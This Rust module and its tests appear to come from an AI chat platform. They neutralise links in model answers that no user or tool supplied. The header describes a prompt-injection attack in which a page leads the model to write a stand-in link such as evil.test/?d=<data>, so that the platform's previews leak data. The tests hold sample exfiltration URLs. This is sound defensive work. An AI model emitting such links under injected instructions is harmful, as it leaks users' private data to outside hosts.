//! Links in answers of turns that hold something from outside: only those that stood there already stay links. Pure.
//!
//! A page that tells the model to write `https://evil.test/?d=<what it knows>` gains nothing: the platform would fetch
//! such a link for a preview, without anybody's tap. A link that neither a person wrote nor a tool gave is shown, and is
//! none any more: `hxxps://evil[.]test/…`. security.md row 15.

use std::{borrow::Cow, collections::HashSet, ops::Range};

/// What no link goes on over.
const ENDS: &str = "<>\"`|{}\\^、。，；：！？（）【】《》「」『』“”";

/// The most links that are remembered.
const MOST: usize = 10_000;

/// The links that stood in what people wrote and tools gave.
#[derive(Clone, Debug, Default)]
pub struct Known(HashSet<String>);

impl Known {
    /// Remembers the links of a text.
    pub fn learn(&mut self, text: &str) {
        for link in links(text) {
            if self.0.len() >= MOST {
                return;
            }
            if !self.0.contains(bare(link)) {
                self.0.insert(bare(link).to_owned());
            }
        }
    }

    /// Whether it stood in one of them, as it is.
    pub fn has(&self, link: &str) -> bool {
        self.0.contains(bare(link))
    }

    /// One of them may become this one.
    fn begins_with(&self, link: &str) -> bool {
        self.0.iter().any(|known| known.starts_with(link))
    }
}

/// The same text; links that are not known are shown and are none any more. `going_on`: it is the beginning of an answer
/// that is being written, so that its last link may still become a known one.
pub fn delinked<'a>(text: &'a str, known: &Known, going_on: bool) -> Cow<'a, str> {
    let mut out = String::new();
    let mut done = 0;
    for link in links(text) {
        let start = link.as_ptr() as usize - text.as_ptr() as usize;
        let end = start + link.len();
        if known.has(link) || (going_on && end == text.len() && known.begins_with(link)) {
            continue;
        }
        out.push_str(&text[done..start]);
        out.push_str(&defanged(link));
        done = end;
    }
    if done == 0 {
        return Cow::Borrowed(text);
    }
    out.push_str(&text[done..]);
    Cow::Owned(out)
}

/// The links of a text, in order; what is defanged is none.
fn links(text: &str) -> impl Iterator<Item = &str> {
    let mut at = 0;
    std::iter::from_fn(move || {
        loop {
            let begins = beginning(text, at)?;
            let link = whole(&text[begins.start..], begins.len());
            at = begins.start + link.len().max(begins.len());
            let defanged = link.get(..4).is_some_and(|scheme| scheme.eq_ignore_ascii_case("hxxp"));
            if !defanged {
                return Some(link);
            }
        }
    })
}

/// The first beginning, from this byte on, of what a platform may take for a link: with a scheme, with `www.`, or a host
/// with a path or a query. No bound of words in front: `x_https://…` is one for some. Looks at every character once or
/// twice: it runs over whole prompts and tool results, where a regular expression of so many letters takes a hundred
/// times as long.
fn beginning(text: &str, from: usize) -> Option<Range<usize>> {
    let bytes = text.as_bytes();
    let mut at = from;
    while at < bytes.len() {
        // A run of what schemes and hosts are made of; all beginnings lie in one, and end shortly behind it.
        let begin = at;
        let mut ascii = true;
        while let Some(&byte) = bytes.get(at) {
            if byte.is_ascii() {
                if !(byte.is_ascii_alphanumeric() || matches!(byte, b'+' | b'.' | b'-')) {
                    break;
                }
                at += 1;
            } else {
                let Some(c) = text[at..].chars().next().filter(|c| c.is_alphanumeric()) else { break };
                ascii = false;
                at += c.len_utf8();
            }
        }
        let run = &text[begin..at];
        if run.len() > 1 {
            let behind = &bytes[at..];
            let scheme = behind.starts_with(b"://").then(|| scheme_in(run)).flatten().map(|start| start..run.len() + 3);
            let host = terminator(&text[at..]).and_then(|end| Some(host_in(run, ascii)?..run.len() + end));
            // The first of them; of those that begin alike in this order.
            let found = [scheme, www_in(run), host].into_iter().flatten().min_by_key(|found| found.start);
            if let Some(found) = found {
                return Some(begin + found.start..begin + found.end);
            }
        }
        at += text[at..].chars().next().map_or(1, char::len_utf8);
    }
    None
}

/// Where the scheme begins that ends the run: a letter, and one to fifteen characters after it.
fn scheme_in(run: &str) -> Option<usize> {
    let bytes = run.as_bytes();
    let floor = bytes.len().saturating_sub(16);
    let of_scheme = |byte: &u8| byte.is_ascii_alphanumeric() || matches!(byte, b'+' | b'.' | b'-');
    let start = bytes[floor..].iter().rposition(|byte| !of_scheme(byte)).map_or(floor, |other| floor + other + 1);
    (start..bytes.len().saturating_sub(1)).find(|at| bytes[*at].is_ascii_alphabetic())
}

/// `www.`, `www2.`, … in a run.
fn www_in(run: &str) -> Option<Range<usize>> {
    let bytes = run.as_bytes();
    let www = |at: &usize| bytes[*at..*at + 3].eq_ignore_ascii_case(b"www");
    (0..bytes.len().saturating_sub(3)).filter(www).find_map(|start| {
        let digits = run[start + 3..].chars().take(3).take_while(|c| c.is_numeric()).map(char::len_utf8).sum::<usize>();
        let dot = start + 3 + digits;
        (bytes.get(dot) == Some(&b'.')).then_some(start..dot + 1)
    })
}

/// What makes a host before it a link: `/`, `?` or `#`, with or without a port in front; its length.
fn terminator(behind: &str) -> Option<usize> {
    let port = match behind.strip_prefix(':') {
        None => 0,
        Some(rest) => {
            let digits = rest.chars().take_while(|c| c.is_numeric()).take(6).collect::<Vec<_>>();
            if digits.is_empty() || digits.len() > 5 {
                return None;
            }
            1 + digits.into_iter().map(char::len_utf8).sum::<usize>()
        }
    };
    behind[port..].starts_with(['/', '?', '#']).then_some(port + 1)
}

/// Where the host begins that ends the run: labels of at most 63 letters, digits and hyphens, none of which begins with a
/// hyphen, and a name of 2 to 24 letters behind the last dot.
fn host_in(run: &str, ascii: bool) -> Option<usize> {
    const LABEL: usize = 63;
    let count = |text: &str| if ascii { text.len() } else { text.chars().count() };
    let (mut rest, last) = run.rsplit_once('.')?;
    if !(2..=24).contains(&count(last)) || !last.chars().all(char::is_alphabetic) {
        return None;
    }
    let mut start = None;
    loop {
        let label_at = rest.rfind(['.', '+']).map_or(0, |at| at + 1);
        let label = &rest[label_at..];
        let long = count(label).saturating_sub(LABEL);
        // The first character that a label of at most 63 can begin with.
        let first = label.char_indices().skip(long).find(|(_, c)| *c != '-').map(|(at, _)| at);
        let Some(first) = first else { return start };
        start = Some(label_at + first);
        // Another label stands before it when this one is whole.
        match rest[..label_at].strip_suffix('.') {
            Some(before) if first == 0 => rest = before,
            _ => return start,
        }
    }
}

/// The link that a text begins with, of which so many bytes are found: up to a blank or a mark, without what belongs to the
/// sentence or to Markdown, which is closing marks, and a bracket that was not opened in it.
fn whole(text: &str, found: usize) -> &str {
    let mut depth = 0_i32;
    let mut end = text.len();
    for (at, c) in text.char_indices() {
        match c {
            '(' | '[' => depth += 1,
            ')' | ']' if depth > 0 => depth -= 1,
            ')' | ']' => {
                end = at;
                break;
            }
            c if c.is_whitespace() || c.is_control() || ENDS.contains(c) => {
                end = at;
                break;
            }
            _ => {}
        }
    }
    let link = text[..end.max(found)].trim_end_matches(['.', ',', ';', ':', '!', '?', '\'', '*', '_', '~']);
    if link.len() < found { &text[..found] } else { link }
}

/// How links are compared: as they are written, but for a slash at the end.
fn bare(link: &str) -> &str {
    link.trim_end_matches('/')
}

/// Readable, and no link for any platform: the scheme is not one, and the host has no dots.
fn defanged(link: &str) -> String {
    let (scheme, rest) = match link.split_once("://") {
        Some((scheme, rest)) => (Some(scheme), rest),
        None => (None, link),
    };
    let end = rest.find(['/', '?', '#']).unwrap_or(rest.len());
    let (host, path) = rest.split_at(end);
    // A dot or an at-sign further on could begin another one.
    let path = path.replace("://", "[:]//").replace('@', "[@]");
    let host = host.replace('.', "[.]").replace('@', "[@]");
    match scheme {
        Some(scheme) if scheme.eq_ignore_ascii_case("https") => format!("hxxps://{host}{path}"),
        Some(scheme) if scheme.eq_ignore_ascii_case("http") => format!("hxxp://{host}{path}"),
        Some(scheme) => format!("{scheme}[:]//{host}{path}"),
        None => format!("{host}{path}"),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn known() -> Known {
        let mut known = Known::default();
        known.learn("see https://example.org/a?b=1 and (https://docs.example.org/x_(y)), http://10.0.0.1:8080/");
        known
    }

    #[test]
    fn links_that_stood_there_stay_and_others_are_shown_and_are_none() {
        for (text, expected) in [
            ("no link at all, v1.2.3, a.b and 3.14/2", "no link at all, v1.2.3, a.b and 3.14/2"),
            ("https://example.org/a?b=1.", "https://example.org/a?b=1."),
            ("[here](https://docs.example.org/x_(y))!", "[here](https://docs.example.org/x_(y))!"),
            ("http://10.0.0.1:8080", "http://10.0.0.1:8080"),
            ("https://e.test/?d=SECRET", "hxxps://e[.]test/?d=SECRET"),
            ("![](https://e.test/p.png?d=S)", "![](hxxps://e[.]test/p.png?d=S)"),
            ("[https://example.org/a?b=1](HTTPS://e.test/x)", "[https://example.org/a?b=1](hxxps://e[.]test/x)"),
            ("[a](https://e.test/1)[b](https://e.test/2)", "[a](hxxps://e[.]test/1)[b](hxxps://e[.]test/2)"),
            ("https://example.org/a?b=1](https://e.test/(x", "https://example.org/a?b=1](hxxps://e[.]test/(x"),
            ("<https://e.test/x>", "<hxxps://e[.]test/x>"),
            ("看这里：https://e.test/泄露。好吗", "看这里：hxxps://e[.]test/泄露。好吗"),
            ("e.test/?d=S and www.e.test", "e[.]test/?d=S and www[.]e[.]test"),
            ("tg://resolve?domain=e", "tg[:]//resolve?domain=e"),
            // One more letter is another link.
            ("https://example.org/a?b=12", "hxxps://example[.]org/a?b=12"),
            ("https://example.org@e.test/a", "hxxps://example[.]org[@]e[.]test/a"),
            ("https://e.test/https://f.test/x", "hxxps://e[.]test/https[:]//f.test/x"),
        ] {
            assert_eq!(delinked(text, &known(), false), expected, "{text}");
        }
    }

    #[test]
    fn what_is_defanged_is_no_link_any_more() {
        for text in ["https://e.test/?d=1", "www.e.test/x", "e.test/x?y", "a+b://x.y/z"] {
            let once = delinked(text, &Known::default(), false).into_owned();
            assert_eq!(delinked(&once, &Known::default(), false), once, "{text} → {once}");
        }
    }

    #[test]
    fn a_link_in_the_making_is_not_spoilt_when_it_can_become_a_known_one() {
        assert_eq!(delinked("see https://exam", &known(), true), "see https://exam");
        assert_eq!(delinked("see https://exam", &known(), false), "see hxxps://exam");
        assert_eq!(delinked("see https://e.te", &known(), true), "see hxxps://e[.]te");
        assert_eq!(delinked("https://exam is it", &known(), true), "hxxps://exam is it");
    }

    /// The rule as an expression, which is slow and easy to read.
    fn by_expression(text: &str) -> Vec<Range<usize>> {
        static RULE: std::sync::LazyLock<regex::Regex> = std::sync::LazyLock::new(|| {
            let rule = r"(?x)
              [A-Za-z][A-Za-z0-9+.\-]{1,15} ://
            | [Ww]{3}\p{N}{0,3}\.
            | (?:[\p{Alphabetic}\p{N}](?:[\p{Alphabetic}\p{N}\-]{0,62}) \.)+ \p{Alphabetic}{2,24} (?: :\p{N}{1,5} )? [/?\#]";
            regex::Regex::new(rule).expect("it is tested here")
        });
        let (mut found, mut at) = (Vec::new(), 0);
        while let Some(begins) = RULE.find_at(text, at) {
            found.push(begins.range());
            at = begins.end();
        }
        found
    }

    proptest::proptest! {
        // The expression is the slow one: thousands of cases were tried when this was written.
        #![proptest_config(proptest::prelude::ProptestConfig::with_cases(64))]
        #[test]
        fn beginnings_are_those_of_the_rule(text in "(www|WWW2|https?|://|a|b9|\\.|\\.|-|\\+|:80|:123456|/|\\?|#|é|中|٣| |_|[a-z]{60,70}|\\PC){0,24}") {
            let (mut found, mut at) = (Vec::new(), 0);
            while let Some(begins) = beginning(&text, at) {
                at = begins.end;
                found.push(begins);
            }
            proptest::prop_assert_eq!(found, by_expression(&text), "{:?}", text);
        }
    }

    #[test]
    fn a_long_text_takes_no_time() {
        let text = "a.".repeat(500_000) + &"https://".repeat(100_000);
        assert!(delinked(&text, &known(), false).len() >= text.len());
    }
}
